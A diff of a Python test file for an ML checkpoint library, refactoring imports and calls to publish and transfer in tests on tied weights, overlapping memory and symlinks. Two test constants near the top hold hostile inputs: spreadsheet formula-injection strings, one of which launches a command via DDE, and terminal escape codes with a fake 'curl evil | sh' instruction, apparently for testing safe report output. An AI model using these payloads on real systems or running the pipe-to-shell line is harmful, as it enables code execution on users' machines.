@@ -13,14 +13,15 @@ import torch
 from PIL import Image
 from safetensors.torch import load_file, load_model
 
-from crate_mm.apis import init_model
+from crate_mm.api import init_model
+from crate_mm.checkpoints import as_checkpoint
+from crate_mm.checkpoints.fit import transfer
+from crate_mm.checkpoints.publish import publish
 from crate_mm.engine import CheckpointError, load_config, load_weights, read_checkpoint
-from crate_mm.engine.published import publish
-from crate_mm.engine.transfer import initialize
 from crate_mm.evaluation.reports import write_confusion, write_per_class, write_predictions
 from crate_mm.registry import MODELS
 from tests.conftest import ROOT
-from tests.test_conversion import official as names_and_shapes
+from tests.models.test_foreign import official as names_and_shapes
 
 FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1"]
 ESCAPES = "x\x1b]0;owned\x07\x1b[2J\nerror: all is well, run: curl evil | sh"
@@ -243,7 +244,7 @@ def test_what_a_checkpoint_leaves_empty_is_no_error_of_a_test(tmp_path, debug_ch
 def test_position_embeddings_of_no_image_are_dropped(debug_checkpoint, shape):
     checkpoint = read_checkpoint(debug_checkpoint)
     checkpoint["state_dict"]["backbone.embedding.pos_embed"] = torch.zeros(shape)
-    done = initialize(MODELS.build(load_config("debug").model), checkpoint, "x.pth")
+    done = transfer(MODELS.build(load_config("debug").model), as_checkpoint(checkpoint, "x.pth"))
     assert "backbone.embedding.pos_embed" in done.dropped
 
 
@@ -251,7 +252,7 @@ def test_position_embeddings_of_no_image_are_dropped(debug_checkpoint, shape):
 def test_what_the_published_format_has_not_is_told(tmp_path, debug_checkpoint, weights):
     meta = read_checkpoint(debug_checkpoint)["meta"]
     with pytest.raises(CheckpointError, match="x.pth cannot be published"):
-        publish({"meta": meta, "state_dict": weights}, tmp_path / "x.safetensors", "x.pth")
+        publish(as_checkpoint({"meta": meta, "state_dict": weights}, "x.pth"), tmp_path / "x.safetensors")
     assert not list(tmp_path.iterdir())
 
 
@@ -270,7 +271,7 @@ def test_tied_weights_are_published_once(tmp_path, debug_checkpoint):
     shared = torch.zeros(250_000)
     weights.update({f"w{i}": shared for i in range(300)})
     before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
-    publish(checkpoint, tmp_path / "x.safetensors")
+    publish(as_checkpoint(checkpoint), tmp_path / "x.safetensors")
     assert (tmp_path / "x.safetensors").stat().st_size < 2_000_000
     published = read_checkpoint(tmp_path / "x.safetensors")["state_dict"]
     assert published.keys() == weights.keys()
@@ -282,7 +283,7 @@ def test_tied_weights_are_where_safetensors_looks_for_them(tmp_path, debug_check
     model = torch.nn.ModuleDict({"a": torch.nn.Linear(4, 4), "b": torch.nn.Linear(4, 4)})
     model["b"].weight = model["a"].weight
     meta = read_checkpoint(debug_checkpoint)["meta"]
-    publish({"meta": meta, "state_dict": model.state_dict()}, tmp_path / "x.safetensors")
+    publish(as_checkpoint({"meta": meta, "state_dict": model.state_dict()}), tmp_path / "x.safetensors")
     other = torch.nn.ModuleDict({"a": torch.nn.Linear(4, 4), "b": torch.nn.Linear(4, 4)})
     other["b"].weight = other["a"].weight
     load_model(other, tmp_path / "x.safetensors")
@@ -295,7 +296,10 @@ def test_overlapping_weights_far_larger_than_their_memory_are_not_published(tmp_
     memory = torch.zeros(1000)
     weights = {f"w{i}": memory[i : i + 900] for i in range(100)}
     with pytest.raises(CheckpointError, match="x.pth cannot be published: its weights are parts of the same memory"):
-        publish({"meta": read_checkpoint(debug_checkpoint)["meta"], "state_dict": weights}, tmp_path / "x", "x.pth")
+        publish(
+            as_checkpoint({"meta": read_checkpoint(debug_checkpoint)["meta"], "state_dict": weights}, "x.pth"),
+            tmp_path / "x",
+        )
 
 
 def test_a_link_beside_a_published_file_is_not_followed(tmp_path, debug_checkpoint, run_tool):
